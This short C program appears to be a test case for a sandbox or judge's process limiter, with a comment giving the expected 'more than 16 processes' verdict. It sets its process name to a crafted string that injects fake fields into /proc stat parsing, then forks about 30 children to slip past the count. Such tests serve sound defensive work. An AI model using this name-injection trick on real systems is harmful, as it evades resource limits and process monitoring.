// compiler, interpreter: ends "had more than 16 processes and threads"
// The name of a process stands before its group, where those who count read it.
#include "attack.h"
#include <sys/prctl.h>

int main(void)
{
    prctl(PR_SET_NAME, "x) R 1 1 1 (y");
    for (int count = 0; count < 30; ++count)
        if (!fork()) break;
    sleep(10);
    return 0;
}
